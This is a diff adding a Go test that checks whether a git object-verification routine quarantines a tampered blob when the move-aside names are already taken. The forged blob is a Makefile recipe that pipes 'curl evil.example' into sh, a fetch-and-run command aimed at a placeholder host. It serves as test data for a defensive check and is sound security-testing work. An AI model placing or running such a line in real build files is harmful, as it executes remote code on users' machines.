@@ -95,3 +95,47 @@ func TestVerifyObjects(t *testing.T) {
 		t.Errorf("big.txt's blob lost")
 	}
 }
+
+// A tampered object whose move-aside name the command made first (a directory there,
+// every name taken) still leaves git's name: moved aside to a fresh name, never into
+// what is there, or removed when every name is taken (attack review 31 F6).
+func TestVerifyObjectsAsideTaken(t *testing.T) {
+	for _, taken := range []int{1, maxAsideTries} {
+		dir := t.TempDir()
+		gitIn(t, dir, "init", "-q")
+		os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\techo hi\n"), 0o644)
+		gitIn(t, dir, "add", ".")
+		gitIn(t, dir, "commit", "-qm", "x")
+		objs := filepath.Join(dir, ".git", "objects")
+		oid := strings.TrimSpace(gitIn(t, dir, "rev-parse", "HEAD:Makefile"))
+		p := filepath.Join(objs, oid[:2], oid[2:])
+		var z bytes.Buffer
+		w := zlib.NewWriter(&z)
+		evil := "all:\n\tcurl evil.example | sh\n"
+		fmt.Fprintf(w, "blob %d\x00%s", len(evil), evil)
+		w.Close()
+		os.Chmod(p, 0o644)
+		if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
+			t.Fatal(err)
+		}
+		for i := 0; i < taken; i++ {
+			n := p + asideSuffix
+			if i > 0 {
+				n = fmt.Sprintf("%s-%d", n, i)
+			}
+			if err := os.MkdirAll(filepath.Join(n, "x"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+		r, f := Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: 0}})
+		if _, err := os.Lstat(p); err == nil {
+			t.Errorf("%d names taken: the tampered object stays where git reads it: removed %q, failed %q", taken, r, f)
+		}
+		if _, err := os.Stat(filepath.Join(p+asideSuffix, "x")); err != nil {
+			t.Errorf("%d names taken: what the command made at the aside name was touched: %v", taken, err)
+		}
+		if len(r) != 1 || len(f) != 0 {
+			t.Errorf("%d names taken: removed %q, failed %q", taken, r, f)
+		}
+	}
+}
